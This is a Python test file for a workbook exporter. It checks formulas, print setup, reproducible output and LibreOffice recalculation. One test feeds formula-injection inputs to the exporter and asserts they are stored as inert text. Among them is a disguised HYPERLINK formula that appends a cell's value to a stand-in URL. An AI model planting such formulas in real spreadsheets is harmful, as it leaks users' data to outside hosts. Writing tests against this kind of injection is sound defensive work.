"""A workbook keeps its formulas, reckons what the PDF prints, and makes no formula of what people wrote."""

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from gateway.rendering.model import Band
from gateway.rendering.reckoning import reckoned, totals
from gateway.rendering.sheet import ABOUT, LIKE_FORMULA, workbook
from tests.gateway.rendering.sample import AT, DOCUMENT, EVIL, FIGURES, opened_in_office


@pytest.fixture(scope="module")
def made() -> bytes:
    return workbook(DOCUMENT, AT)


def test_each_table_has_a_sheet_of_its_own_name(made: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made))
    assert book.sheetnames == [ABOUT, "Angka   semua  Daerah", "Angka   semua  Daerah 2"]


def test_formulas_are_formulas_and_have_no_results_beside_them(made: bytes) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(made)).worksheets[1]
    assert sheet["F9"].value == '=IF(OR(C9="",N(D9)=0),"",C9/D9*100)'
    assert sheet["C13"].value == "=SUM(C8:C12)"
    assert sheet["B13"].value == "=COUNTA(B8:B12)"
    assert sheet["E13"].value == '=IF(COUNT(E8:E12)=0,"",AVERAGE(E8:E12))'
    assert sheet["F13"].value == '=IF(OR(C13="",N(D13)=0),"",C13/D13*100)'
    assert openpyxl.load_workbook(io.BytesIO(made), data_only=True).worksheets[1]["F9"].value is None


HIDDEN = ('\u00ad=HYPERLINK("https://x.test/?"&D7)', "\ufffe=1+1", "\u00ad\u00ad+1")
"""What is taken out of a cell must not leave a formula behind."""


@pytest.mark.parametrize("written", [*(text for text in EVIL if text.startswith(LIKE_FORMULA)), *HIDDEN])
def test_what_people_wrote_is_never_a_formula(written: str) -> None:
    from dataclasses import replace  # noqa: PLC0415 - one test needs it

    from gateway.rendering.model import Column, Row, Table  # noqa: PLC0415 - as above

    table = Table(written, (Column("x", written),), (Row({"x": written}), Band(written)), name=written)
    book = openpyxl.load_workbook(io.BytesIO(workbook(replace(DOCUMENT, title=written, parts=(table,)), AT)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if str(cell.value).startswith(LIKE_FORMULA))


def test_it_prints_on_paper(made: bytes) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(made)).worksheets[1]
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth) == ("landscape", 1)
    assert sheet.print_title_rows == "$5:$7"
    assert sheet.freeze_panes == "A8"


def test_the_same_document_is_the_same_file(made: bytes) -> None:
    assert workbook(DOCUMENT, AT) == made
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert b"2026-02-03T04:05:06Z" in archive.read("docProps/core.xml")


def test_libreoffice_reckons_what_is_printed(made: bytes, tmp_path: Path) -> None:
    """Every formula, against the exact figures that PDF and DOCX are made of."""
    to = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,2"
    (file,) = opened_in_office(made, "xlsx", tmp_path, to)
    with file.open(encoding="utf-8", newline="") as opened:
        lines = list(csv.reader(opened))[7:12]
        opened.seek(0)
        below = list(csv.reader(opened))[12:14]
    expected = [*reckoned(FIGURES), *(cells for _, cells in totals(FIGURES))]
    checked = 0
    for line, cells in zip([*lines, *below], expected, strict=True):
        if isinstance(cells, Band):
            assert line[0] == cells.text
            continue
        for text, column in zip(line[2:11], FIGURES.columns[2:11], strict=True):
            value = cells.get(column.key)
            if value is None:
                assert text == "", (column.key, text)
            else:
                assert float(text) == pytest.approx(float(value), abs=1e-9), column.key  # type: ignore[arg-type]
                checked += 1
    assert checked > 20
